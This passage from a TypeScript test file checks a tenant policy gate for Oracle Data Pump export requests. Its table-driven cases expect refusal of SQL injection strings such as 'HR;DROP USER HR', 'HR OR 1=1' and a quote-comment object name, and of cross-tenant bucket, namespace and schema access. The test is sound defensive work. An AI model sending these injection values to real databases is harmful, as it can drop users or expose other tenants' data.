  ['a quote in the object name', hrObject(osUri('hr-exports', "X');--")), refused(422, 'unsafe /file_name')],
  ["API1: another tenant's bucket", hrObject(osUri('sales-exports', 'X.DMP')), refused(403, 'not-granted /file_name')],
  ['API1: another namespace', hrObject(osUri('hr-exports', 'X.DMP', 'evil')), refused(403, 'not-granted /file_name')],
  [
    'credential_name without file_name',
    { tenant: 'hr', request: { ...EXPORT, credential_name: 'HR_OBJ_CRED' } },
    refused(422, 'unsafe /file_name'),
  ],
];

const filters: Case[] = [
  [
    '§4.7 a legacy filter carrying SQL',
    { tenant: 'hr', request: { ...EXPORT, filter: 'HR OR 1=1' } },
    refused(422, 'unsafe /filter'),
  ],
  [
    'a legacy filter with a quote',
    { tenant: 'hr', request: { ...EXPORT, filter: "'HR'" } },
    refused(422, 'unsafe /filter'),
  ],
  [
    'a legacy filter with a semicolon',
    { tenant: 'hr', request: { ...EXPORT, filter: 'HR;DROP USER HR' } },
    refused(422, 'unsafe /filter'),
  ],
  ['a lowercase legacy filter', { tenant: 'hr', request: { ...EXPORT, filter: 'hr' } }, refused(422, 'unsafe /filter')],
  [
    'a legacy filter with a trailing comma',
    { tenant: 'hr', request: { ...EXPORT, filter: 'HR,' } },
    refused(422, 'unsafe /filter'),
  ],
  [
    "a legacy filter naming another tenant's schema",
    { tenant: 'hr', request: { ...EXPORT, filter: 'SALES' } },
    refused(403, 'not-granted /filter'),
  ],
  [
    'a legacy filter in FULL mode',
    { tenant: 'dba', request: { ...EXPORT, job_mode: 'FULL', filter: 'HR' } },
    refused(422, 'unsafe /filter'),
  ],
  [
    'a legacy filter that would make a 21st schema expression',
    {
      tenant: 'dba',
      request: { ...EXPORT, schema_expressions: items(...Array.from({ length: 20 }, () => "= 'HR'")), filter: 'HR' },
    },
    refused(422, 'unsafe /filter'),
  ],
];

const combined: Case[] = [
  [
    'every violation at once; any not-granted one makes it 403',
    {
      tenant: 'hr',
      request: {
        ...EXPORT,
        job_mode: 'FULL',
        datapump_dir: 'OTHER_DIR',
        file_name: 'X.DMP',
        threads: 9,
        schema_expressions: items("IN ('SALES')", "= 'HR' OR 1=1"),
      },
    },
    refused(
      403,
      'not-granted /job_mode',
      `not-granted ${SCHEMA}`,
      'unsafe /schema_expressions/1/expression',
      'not-granted /threads',
      'not-granted /datapump_dir',
      'not-granted /file_name',
    ),
  ],
  [
    'only unsafe violations make it 422',
    {
      tenant: 'hr',
      request: {
        ...EXPORT,
        file_name: 'HR_;',
        name_expressions: items('= 1'),
        tablespace_expressions: items("IN ('HR_DATA',)"),
      },
    },
    refused(422, `unsafe ${NAME}`, `unsafe ${TABLESPACE}`, 'unsafe /file_name'),
  ],
];

function run(input: Input) {
  const tenant = typeof input.tenant === 'string' ? TENANTS[input.tenant] : input.tenant;
  return evaluatePolicy({
    tenant,
    request: input.request as unknown as JobRequest,
    timestamp: TIMESTAMP,
    ...(input.limits ? { limits: input.limits } : {}),
  });
}

const groups = { accepted, grammar, scope, files, filters, combined };

describe('evaluatePolicy, table-driven', () => {
  it('has at least 80 cases', () => {
    expect(Object.values(groups).flat().length).toBeGreaterThanOrEqual(80);
  });
  for (const [group, cases] of Object.entries(groups)) {
    describe(group, () => {
      it.each(cases)('%s', (_why, input, expected) => {
        const decision = run(input);
        if ('upstream' in expected) {
          expect(decision).toEqual({ allowed: true, upstream: expected.upstream });
        } else {
          expect(decision.allowed).toBe(false);
          if (decision.allowed) return;
          expect(decision.status).toBe(expected.status);
          expect(decision.violations.map((v) => `${v.kind} ${v.pointer}`).sort()).toEqual(
            [...expected.violations].sort(),
          );
        }
      });
    });
  }
});
